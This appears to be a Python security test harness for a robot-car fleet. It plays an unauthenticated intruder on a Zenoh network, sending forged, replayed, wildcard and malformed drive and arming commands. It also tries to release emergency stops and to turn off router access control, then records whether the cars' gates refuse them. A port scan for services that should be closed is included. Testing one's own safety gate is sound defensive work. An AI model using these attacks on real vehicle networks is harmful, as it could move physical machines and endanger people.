"""`coopenv svea attack`: messages of a program without a key to standing cars, and their effect."""

import math
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass
from functools import partial
from typing import Any

import numpy as np

from coopenv.base.errors import CoopenvError, listed
from coopenv.cars.backend.station import OLD, OPEN, PATIENCE, Gates
from coopenv.cars.gate.gate import Reason
from coopenv.cars.gate.wheel_command import MotionCommand, write_drive
from coopenv.cars.link.connect import certificates_of
from coopenv.cars.link.keys import Signer, library, load_verifier
from coopenv.cars.link.transport import Arrival
from coopenv.cars.link.zenoh import Zenoh, open_zenoh
from coopenv.cars.messages.cdr import ENCAPSULATION
from coopenv.cars.messages.codec import decode, encode, header, make, ros2
from coopenv.cars.messages.readings import Twist, read
from coopenv.cars.settings.deployment import Deployment
from coopenv.cars.settings.profile import GATE_TYPES, VELOCITY, Role

MOVES = 0.1  # m/s, above the noise of the wheels
BATCH = 50  # messages between two looks at the car
PAUSE = 0.02  # s after a batch
SETTLE = 0.5  # s in which gate and wheels react: two messages of the gate
STOP = 3.0  # s in which a car comes to a stand
PORTS = {
    4222: "NATS",
    5760: "MAVLink of mavros",
    7447: "Zenoh",
    8000: "REST of Zenoh",
    8765: "Foxglove",
    9090: "rosbridge",
    11311: "ROS 1",
}
"""TCP ports of a car that should be closed, and their usual programs."""

Send = Callable[[str, int], Any]
"""Sends a message of a kind to a car, or makes its payload, by the message's number."""
Sign = Callable[[str, bytes], bytes]
"""Returns what goes beside a payload under a topic."""


class Intruder:
    """A program in the fleet's network with all that it can see, and no key."""

    def __init__(self, deployment: Deployment, cars: Sequence[str], seed: int) -> None:
        """Connect as a client; further sessions are opened by the attacks that need them.

        Raises:
            CoopenvError: there are no cars, or the network is not Zenoh, or cannot be reached.
        """
        file, kind = deployment.file.name, deployment.network.kind
        if kind != "zenoh":
            raise CoopenvError(f"{file}: network.kind: {kind} has no access control to attack, zenoh has")
        if not cars:
            raise CoopenvError(f"{file}: cars: all are landmarks, none is driven")
        self.profile, self.cars, self._random = deployment.profile, cars, random.Random(seed)
        self._speed = deployment.limits.speed
        self._stack = ExitStack()
        self._sessions: dict[str, Any] = {}
        self._open = partial(open_zenoh, connect=deployment.network.connect, tls=certificates_of(deployment))
        self.observer = self._stack.enter_context(closing(self._open("client")))
        verifier = None if deployment.keys is None else load_verifier(deployment.keys)
        self.gates = Gates(self.observer, tuple(cars), deployment.limits, None, verifier, self.profile)
        self.speeds = dict.fromkeys(cars, math.nan)
        """Fastest since the attack of a kind has begun, m/s; NaN: no message of the wheels has come."""
        self._seen: dict[str, bytes] = {}
        role = VELOCITY[deployment.sensors.odometry][0]
        for car in cars:
            self.observer.subscribe(self.profile.topic_of(car, role), partial(self._measure, car, role))
            manual = self.profile.topic_of(car, Role.MANUAL)
            self.observer.subscribe(manual, partial(self._keep, car))
        keys = library().Ed25519PrivateKey
        identity = deployment.security.identity
        self._forger, self._stranger = Signer(identity, keys.generate()), Signer("mallory", keys.generate())
        self.answered = 0
        """Replies to queries, and queries that reached an answer prepared here."""

    def close(self) -> None:
        """End all sessions."""
        self._stack.close()

    def _keep(self, car: str, arrival: Arrival) -> None:
        self._seen.setdefault(car, arrival.payload)

    def _measure(self, car: str, role: Role, arrival: Arrival) -> None:
        with suppress(CoopenvError):
            value = read(role, decode(arrival.payload, self.profile.topics[role].type))
            if isinstance(value, Twist) and value.linear is not None:
                self.speeds[car] = float(np.fmax(self.speeds[car], np.linalg.norm(value.linear)))

    def session(self, mode: str = "client") -> Any:
        """Return the Zenoh session of a mode, which is opened where there is none."""
        if mode not in self._sessions:
            made: Zenoh = self._stack.enter_context(closing(self._open(mode)))  # type: ignore[arg-type]
            self._sessions[mode] = made.session
            time.sleep(SETTLE)  # until the others know of it
        return self._sessions[mode]

    def put(self, key: str, payload: bytes, attachment: bytes = b"", mode: str = "client") -> None:
        """Publish; a reliable message waits for the network instead of being lost."""
        block = self.observer.library.CongestionControl.BLOCK
        self.session(mode).put(key, payload, attachment=attachment or None, congestion_control=block)

    def manual(self) -> bytes:
        """Return a message that drives the wheels forward."""
        return write_drive(time.time_ns(), self.profile.command, MotionCommand(0.0, self._speed))

    def _big_endian(self) -> bytes:
        kind = self.profile.topics[Role.MANUAL].type
        return bytes(ros2().serialize_cdr(decode(self.manual(), kind), kind, little_endian=False))

    def _command(self, car: str, i: int, speed: float | None = None, late: float = 0.0) -> bytes:
        stamp, session = time.time_ns() - round(late * 1e9), self.gates.states[car].session or "s"
        about = header(stamp, f"{session}:{10**9 + i}")
        return encode(
            make(GATE_TYPES[Role.COMMAND], header=about, drive={"speed": self._speed if speed is None else speed})
        )

    def _arm(self, car: str) -> bytes:
        about, nonce = header(time.time_ns()), self.gates.states[car].nonce
        return encode(make(GATE_TYPES[Role.ARM], header=about, session="s", nonce=nonce, armed=True))

    def _under(
        self, *names: str, payload: Send | None = None, signer: Sign | None = None, mode: str = "client"
    ) -> Send:
        """Return the function that puts a payload, or a driving command, under one key after the other.

        `{car}` and the topics of the car by role, such as `{manual}`, are filled in.
        """

        def send(car: str, i: int) -> None:
            topics = {role.value: self.profile.topic_of(car, role) for role in Role}
            key = names[i % len(names)].format(car=car, **topics)
            content = payload(car, i) if payload else self.manual()
            self.put(key, content, signer(key, content) if signer else b"", mode)

        return send

    def _declared(self, car: str, _i: int) -> None:
        key = self.session().declare_keyexpr(self.profile.topic_of(car, Role.MANUAL))
        publisher = self.session().declare_publisher(key)
        publisher.put(self.manual())
        publisher.undeclare()
        self.session().undeclare(key)

    def _ask(self, *names: str) -> Send:
        def reply(_: Any) -> None:
            self.answered += 1

        def send(car: str, i: int) -> None:
            key = names[i % len(names)].format(car=car)
            self.session().get(key, reply, payload=ENCAPSULATION + b"\1", timeout=1.0)

        return send

    def _answer(self, car: str, i: int) -> None:
        def answer(query: Any) -> None:
            self.answered += 1
            query.reply(str(query.key_expr), self.manual())

        if i == 0:
            self.session().declare_queryable(f"**/{self.profile.topic_of(car, Role.MANUAL)}", answer)
        self.put(self.profile.topic_of(car, Role.MANUAL), self.manual())

    def _announce(self, car: str, i: int) -> None:
        wheels, kind = self.profile.topic_of(car, Role.MANUAL), self.profile.topics[Role.MANUAL].type
        key = f"@/{'ab' * 16}/@ros2_lv/MP/{wheels.replace('/', '§')}/{kind.replace('/', '§')}/:::"
        token = self.session().liveliness().declare_token(key)
        self.put(wheels, self.manual())
        token.undeclare()

    def _open_rules(self, car: str, i: int) -> None:
        """Write to the administration of the routers: no access control; then drive."""
        routers = [*map(str, self.session().info.routers_zid()), "*"]
        for part, value in (("enabled", b"false"), ("default_permission", b'"allow"')):
            self.put(f"@/{routers[i % len(routers)]}/router/config/access_control/{part}", value)
        self.put(self.profile.topic_of(car, Role.MANUAL), self.manual())

    def _bytes(self, least: int, most: int) -> bytes:
        return self._random.choice((b"", ENCAPSULATION)) + self._random.randbytes(self._random.randrange(least, most))

    def kinds(self) -> Mapping[str, Send]:
        """Return the senders of a message of each kind."""

        def armed_or_driven(car: str, i: int) -> bytes:
            return self._command(car, i) if i % 2 else self._arm(car)

        both = partial(self._under, "{arm}", "{command}", payload=armed_or_driven)
        forged = partial(self._under, "{command}", signer=self._forger.sign)
        return {
            "a command to the wheels": self._under("{manual}"),
            "the same under wildcards": self._under(
                "fleet/**", "**", "fleet/*/mavros/**", "fleet/{car}/**/send", "{manual}/**", "fleet/*/*/*/*"
            ),
            "by a declared key and publisher": self._declared,
            "as a peer": self._under("{manual}", mode="peer"),
            "as a router": self._under("{manual}", mode="router"),
            "as a deletion": lambda car, _: self.session().delete(self.profile.topic_of(car, Role.MANUAL)),
            "in the other byte order": self._under("{manual}", payload=lambda *_: self._big_endian()),
            "random bytes to the wheels": self._under("{manual}", payload=lambda *_: self._bytes(0, 200)),
            "a repetition of the gate's own": self._under(
                "{manual}", payload=lambda car, _: self._seen.get(car) or self.manual()
            ),
            "under other names of the topic": self._under(
                *("{car}/mavros/manual_control/send", "self/mavros/manual_control/send", "mavros/manual_control/send"),
                *("rt/{manual}", "fleet/{car}/mavros/manual_control/control", "fleet/{car}/lli/ctrl_request"),
            ),
            "override of the remote control": self._under(
                "fleet/{car}/mavros/rc/override", payload=lambda *_: ENCAPSULATION + struct.pack("<18H", *[1900] * 18)
            ),
            "setpoints and MAVLink": self._under(
                *("fleet/{car}/mavros/setpoint_velocity/cmd_vel_unstamped", "fleet/{car}/mavros/setpoint_raw/attitude"),
                *("fleet/{car}/mavros/actuator_control", "fleet/{car}/mavros/tunnel/in"),
                "fleet/{car}/uas1/mavlink_sink",
            ),
            "services: arming, mode, parameters": self._ask(
                *("fleet/{car}/mavros/cmd/arming", "fleet/{car}/mavros/set_mode", "fleet/{car}/mavros/cmd/command"),
                *("fleet/{car}/mavros/param/set", "fleet/{car}/**"),
            ),
            "answers to the bridge's queries": self._answer,
            "an announced ROS publisher": self._announce,
            "administration: no more rules": self._open_rules,
            "arming, commands without signature": both(),
            "with a forged signature": both(signer=self._forger.sign),
            "signed by a stranger": both(signer=self._stranger.sign),
            "with a signature of random bytes": self._under(
                "{command}", payload=self._command, signer=lambda *_: self._random.randbytes(72)
            ),
            "of the past and the future": forged(
                payload=lambda car, i: self._command(car, i, late=(-60.0, 60.0)[i % 2])
            ),
            "beyond all limits": forged(
                payload=lambda car, i: self._command(car, i, (np.nan, np.inf, 50.0, -50.0)[i % 4])
            ),
            "random bytes to the gate": self._under("{command}", payload=lambda *_: self._bytes(0, 600)),
            "up to 200 kB to the gate": self._under(
                "{arm}", payload=lambda _, i: self._bytes(513, 600 if i % 20 else 200_000)
            ),
            "armings under wildcards": self._under(
                "fleet/*/coopenv/arm", "fleet/*/coopenv/*", "fleet/**", payload=lambda car, _: self._arm(car)
            ),
            "release of the emergency stop": self._under(
                "{stop}", payload=lambda *_: encode(make(GATE_TYPES[Role.STOP], data=False))
            ),
        }


@dataclass
class AttackOutcome:
    """Effect of the messages of a kind."""

    what: str
    sent: int = 0
    refused: int = 0
    """Messages that the gates have counted as refused."""
    through: int = 0
    """Commands that a gate accepted or found at the wheels, and answers to queries."""
    speed: float = math.nan
    """Speed of the fastest car, m/s; NaN: unknown."""

    @property
    def harmful(self) -> bool:
        """True if a car moved, or could have moved."""
        return self.through > 0 or self.speed > MOVES


def attack(intruder: Intruder, commands: int) -> Iterator[AttackOutcome]:
    """Attack standing cars with messages of each kind, and yield each outcome; a kind that succeeds is ended.

    Args:
        intruder: sends.
        commands: of all kinds to all cars, at least.

    Raises:
        CoopenvError: a gate is silent, or a car is armed or moves, before any kind.
    """
    kinds = intruder.kinds()
    each = -(-commands // (len(kinds) * len(intruder.cars)))
    for what, send in kinds.items():
        refuse_driven(intruder)
        yield _try(intruder, what, send, each)


def refuse_driven(intruder: Intruder) -> None:
    """Refuse cars that are armed, move, or whose gate is silent. Raises CoopenvError: there is one."""
    until = time.monotonic() + PATIENCE + STOP
    while True:
        intruder.speeds = dict.fromkeys(intruder.cars, math.nan)
        time.sleep(SETTLE)
        found = [why for car in intruder.cars if (why := _driven(intruder, car))]
        if not found:
            return
        if time.monotonic() > until or "armed" in found[0]:
            raise CoopenvError(f"no attack: {found[0]}")


def _driven(intruder: Intruder, car: str) -> str:
    gate = intruder.gates.states[car]
    if gate.age > OLD:
        return f"{car}: no status of its gate has come"
    if gate.state in OPEN:
        return f"{car}: its gate is armed; disarm the fleet first"
    return f"{car}: moves" if intruder.speeds[car] > MOVES else ""


def _try(intruder: Intruder, what: str, send: Send, each: int) -> AttackOutcome:
    found, before = AttackOutcome(what), intruder.gates.states
    intruder.answered = 0
    for i in range(each):
        for car in intruder.cars:
            with suppress(intruder.observer.library.ZError):
                send(car, i)
            found.sent += 1
        if i % BATCH == BATCH - 1:
            time.sleep(PAUSE)
            if _look(intruder, found, before).harmful:
                break
    time.sleep(SETTLE)
    if _look(intruder, found, before).harmful:
        intruder.gates.stop()
    return found


def _look(intruder: Intruder, found: AttackOutcome, before: Mapping[str, Any]) -> AttackOutcome:
    found.refused, found.through = 0, intruder.answered
    for car, gate in intruder.gates.states.items():
        new = gate.rejections - before[car].rejections
        passed = new.pop(Reason.FOREIGN, 0) + gate.accepted - before[car].accepted + (gate.state in OPEN)
        found.refused += new.total()
        found.through += passed
        found.speed = float(np.fmax(found.speed, intruder.speeds[car]))
    return found


def open_ports(host: str) -> list[str]:
    """Return the ports of a car that should be closed and are not, in words. Raises CoopenvError: no such address."""
    try:
        socket.getaddrinfo(host, None)
    except OSError as error:
        raise CoopenvError(f"--host {host}: {error.strerror}") from None
    found = []
    for port, what in PORTS.items():
        with suppress(OSError), socket.create_connection((host, port), 0.5):
            found.append(f"{host}: {port} ({what})")
    return found


def plan(intruder: Intruder, deployment: Deployment, commands: int) -> str:
    """Return in words what an attack does."""
    where, kinds = ", ".join(deployment.network.connect), len(intruder.kinds())
    return (
        f"{commands} messages of {kinds} kinds go to {listed(intruder.cars)} by {where}. Each kind drives "
        f"a car that obeys it at up to {deployment.limits.speed:g} m/s, until it is noticed: wheels off the ground, a "
        "hand on the switch of the remote control. Emergency stops follow, so the gates are stopped afterwards."
    )
